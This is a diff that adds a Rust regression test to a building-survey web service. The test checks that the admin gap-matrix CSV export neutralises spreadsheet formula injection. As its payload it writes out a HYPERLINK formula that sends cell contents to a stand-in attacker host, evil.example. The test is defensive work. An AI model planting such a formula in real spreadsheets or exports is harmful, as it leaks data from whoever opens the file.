@@ -107,6 +107,45 @@ async fn the_gap_matrix_shows_the_communitys_deliberate_gap_for_every_building()
     assert_eq!(forbidden.status, StatusCode::FORBIDDEN);
 }
 
+/// Issue #23: the gap matrix's CSV wrote names as they were, so a building named like a formula
+/// ran as one when the committee opened the file in Excel or WPS.
+#[tokio::test]
+async fn a_name_that_looks_like_a_formula_is_text_in_the_gap_csv() {
+    let s = server();
+    let cookie = session_cookie(&s.state, &s.account.username, &s.account.password).await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"3号楼\")";
+    let renamed = formula.to_owned();
+    s.state
+        .db
+        .run_blocking(move |c| {
+            c.execute(
+                "UPDATE buildings SET name = ?1 WHERE code =
+                   (SELECT min(code) FROM buildings WHERE community_id = ?2)",
+                [renamed.as_str(), COMMUNITY],
+            )?;
+            Ok(())
+        })
+        .unwrap();
+    let csv = get_with(
+        &s.state,
+        &format!("/api/v1/admin/gaps/{COMMUNITY}.csv"),
+        &[("cookie", &cookie)],
+    )
+    .await;
+    assert_eq!(csv.status, StatusCode::OK);
+    let text = csv.text();
+    let mut reader = ::csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let names: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_owned()).collect();
+    assert!(names.contains(&format!("'{formula}")), "{names:?}");
+    let formulas: Vec<&String> = names
+        .iter()
+        .filter(|n| n.starts_with(['=', '+', '-', '@']))
+        .collect();
+    assert!(formulas.is_empty(), "{formulas:?}");
+}
+
 #[tokio::test]
 async fn a_geojson_import_fills_the_gap_and_a_wrong_row_stores_nothing() {
     let s = server();
